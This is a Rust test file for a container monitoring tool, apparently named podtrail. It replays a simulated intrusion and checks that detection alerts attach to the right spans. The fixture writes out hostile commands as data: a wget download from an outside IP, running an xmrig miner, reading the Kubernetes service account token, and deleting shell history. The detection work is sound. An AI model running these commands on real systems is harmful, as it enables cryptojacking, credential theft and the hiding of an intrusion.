//! The seed's incident as a golden span tree with its alerts: alice opens a shell with a tty,
//! downloads with wget from outside the cluster, unpacks with tar and gzip, runs what she
//! unpacked, reads the service account token and removes the shell history. Compared with
//! tests/golden/rules_incident.txt (ids and times left out); `UPDATE_GOLDEN=1` rewrites it.

mod support;

use std::collections::BTreeMap;

use opentelemetry_sdk::trace::SpanData;
use podtrail::capture::event::{FileOp, Transport};
use podtrail::model::*;
use support::rules::*;
use support::sessions::*;

fn incident() -> Vec<SessionUpdate> {
    let i = info(100, SessionKind::Exec, 10 * S, None);
    let mut wget = image(0, 12 * S, "/bin/busybox", &["wget", "-O", "/tmp/t.tgz", "http://198.51.100.7/t.tgz"]);
    wget.filename = b"/proc/self/exe"[..].into();
    wget.connects =
        vec![connect(12 * S + 10, Transport::Tcp, "198.51.100.7", 80, ConnectOutcome::Connected, None, false)];
    wget.files = vec![file(12 * S + 20, FileOp::Open, "/tmp/t.tgz", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
    let mut tar = image(0, 14 * S, "/bin/busybox", &["tar", "xzf", "/tmp/t.tgz", "-C", "/tmp"]);
    tar.files = vec![file(14 * S + 30, FileOp::Open, "/tmp/xmrig", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
    let gzip = image(0, 14 * S + 10, "/bin/busybox", &["gzip", "-d"]);
    let xmrig = image(0, 16 * S, "/tmp/xmrig", &["/tmp/xmrig", "-o", "pool:3333"]);
    let mut cat = image(0, 18 * S, "/bin/busybox", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
    cat.files =
        vec![file(18 * S + 1, FileOp::Open, "/var/run/secrets/kubernetes.io/serviceaccount/token", None, false, 0)];
    let mut rm = image(0, 20 * S, "/bin/busybox", &["rm", ".bash_history"]);
    rm.files = vec![file(20 * S + 1, FileOp::Unlink, "/root/.bash_history", None, false, 0)];
    let sh = image(0, 10 * S, "/bin/busybox", &["sh"]);
    let mut end = i.clone();
    end.end_ns = Some(21 * S);
    vec![
        SessionUpdate::Started(i.clone().into()),
        SessionUpdate::ProcessEnded(i.clone().into(), process(101, Some(100), 12 * S, 13 * S, 0, vec![wget])),
        SessionUpdate::ProcessEnded(i.clone().into(), process(103, Some(102), 14 * S + 5, 15 * S, 0, vec![gzip])),
        SessionUpdate::ProcessEnded(i.clone().into(), process(102, Some(100), 14 * S, 15 * S, 0, vec![tar])),
        SessionUpdate::ProcessEnded(i.clone().into(), process(104, Some(100), 16 * S, 17 * S, 0, vec![xmrig])),
        SessionUpdate::ProcessEnded(i.clone().into(), process(105, Some(100), 18 * S, 18 * S + 5, 0, vec![cat])),
        SessionUpdate::ProcessEnded(i.clone().into(), process(106, Some(100), 20 * S, 20 * S + 5, 0, vec![rm])),
        SessionUpdate::Ended(end.into(), vec![process(100, None, 10 * S, 21 * S, 0, vec![sh])]),
    ]
}

/// Names, alert-relevant attributes and events (name + attributes) as a tree.
fn render(spans: &[SpanData]) -> String {
    let mut kids: BTreeMap<[u8; 8], Vec<&SpanData>> = BTreeMap::new();
    for s in spans {
        kids.entry(s.parent_span_id.to_bytes()).or_default().push(s);
    }
    for v in kids.values_mut() {
        v.sort_by(|a, b| (a.start_time, &a.name).cmp(&(b.start_time, &b.name)));
    }
    fn walk(out: &mut String, kids: &BTreeMap<[u8; 8], Vec<&SpanData>>, s: &SpanData, depth: usize) {
        let pad = "  ".repeat(depth);
        out.push_str(&format!("{pad}{} [{:?}]\n", s.name, s.span_kind));
        for kv in s
            .attributes
            .iter()
            .filter(|kv| kv.key.as_str().starts_with("podtrail.alerts") || kv.key.as_str() == "user.name")
        {
            out.push_str(&format!("{pad}  | {} = {}\n", kv.key, kv.value));
        }
        for e in s.events.iter() {
            let mut attrs: Vec<String> = e.attributes.iter().map(|kv| format!("{}={}", kv.key, kv.value)).collect();
            attrs.sort();
            out.push_str(&format!("{pad}  @ {}: {}\n", e.name, attrs.join(", ")));
        }
        for c in kids.get(&s.span_context.span_id().to_bytes()).map(|v| v.as_slice()).unwrap_or(&[]) {
            walk(out, kids, c, depth + 1);
        }
    }
    let mut out = String::new();
    for r in kids.get(&[0u8; 8]).cloned().unwrap_or_default() {
        walk(&mut out, &kids, r, 0);
    }
    out
}

#[test]
fn seed_incident_alerts_sit_on_the_spans_that_triggered_them() {
    let spans = Run { who: Some(alice()), attribution_configured: true, ..Run::default() }.spans(incident());
    let actual = render(&spans);
    support::golden::check("rules_incident", &actual);
    // and, whatever the golden says, where each alert sits:
    let fired = fired(&spans);
    for (span, rule) in [
        ("sh", "Terminal shell in a container"),
        ("connect 198.51.100.7:80", "Outbound connection outside the cluster"),
        ("xmrig", "Download then execute"),
        ("cat", "Sensitive file read"),
        ("rm", "Shell history tampering"),
    ] {
        assert!(fired.contains(&(span.to_string(), rule.to_string())), "{rule} on {span}: {fired:?}");
    }
    assert_eq!(fired.len(), 5, "{fired:?}");
    assert_eq!(root_attr(&spans, "podtrail.alerts.count").as_deref(), Some("5"));
}

/// Issue 15: records marked as leaves (no later record names them as parent) keep no names
/// in the rules stage; the alerts, events and spans are the same.
#[test]
fn leaves_raise_the_same_alerts_on_the_same_spans() {
    let run = |leaves| Run { who: Some(alice()), attribution_configured: true, leaves, ..Run::default() };
    let (a, b) = (run(false).spans(incident()), run(true).spans(incident()));
    assert_eq!(render(&a), render(&b));
    assert_eq!(fired(&a), fired(&b));
    let ids = |v: &[SpanData]| v.iter().map(|s| (s.span_context.span_id(), s.parent_span_id)).collect::<Vec<_>>();
    assert_eq!(ids(&a), ids(&b));
    assert!(mark_leaves(incident()).iter().any(|u| matches!(u, SessionUpdate::ProcessEnded(_, r) if r.leaf)));
}

#[test]
fn the_console_tree_shows_each_alert_on_its_line_and_the_total_on_the_session() {
    let spans = Run { who: Some(alice()), attribution_configured: true, ..Run::default() }.spans(incident());
    let text = podtrail::export::console::render_session(&spans);
    assert!(text.contains("!! 5 alert(s), highest high: "), "{text}");
    let rm = text.lines().find(|l| l.contains("rm .bash_history")).unwrap_or_default();
    assert!(rm.contains("!! [high] Shell history tampering (unlink /root/.bash_history)"), "{text}");
    let xmrig = text.lines().find(|l| l.contains("/tmp/xmrig -o")).unwrap_or_default();
    assert!(xmrig.contains("!! [high] Download then execute"), "{text}");
}

#[test]
fn every_alert_is_counted_by_rule_and_severity_and_carries_a_sortable_severity() {
    let metrics = podtrail::metrics::Metrics::default();
    let spans =
        Run { who: Some(alice()), attribution_configured: true, counter: metrics.alerts.clone(), ..Run::default() }
            .spans(incident());
    let mut reg = prometheus_client::registry::Registry::default();
    metrics.register(&mut reg);
    let text = podtrail::metrics::render(&reg);
    let fired = fired(&spans);
    assert_eq!(fired.len(), 5, "{fired:?}");
    for (rule, severity) in [
        ("Terminal shell in a container", "medium"),
        ("Outbound connection outside the cluster", "medium"),
        ("Download then execute", "high"),
        ("Sensitive file read", "high"),
        ("Shell history tampering", "high"),
    ] {
        let n = fired.iter().filter(|(_, r)| r == rule).count();
        let series = format!("podtrail_alerts_total{{rule=\"{rule}\",severity=\"{severity}\"}} {n}");
        assert!(text.contains(&series), "{series} not in:\n{text}");
    }
    // worst first sorts on a number: high (4) above medium (3)
    let root = spans.last().unwrap();
    let num = |k: &str| root.attributes.iter().find(|kv| kv.key.as_str() == k).map(|kv| kv.value.to_string());
    assert_eq!(num("podtrail.alerts.max_severity_number").as_deref(), Some("4"));
}
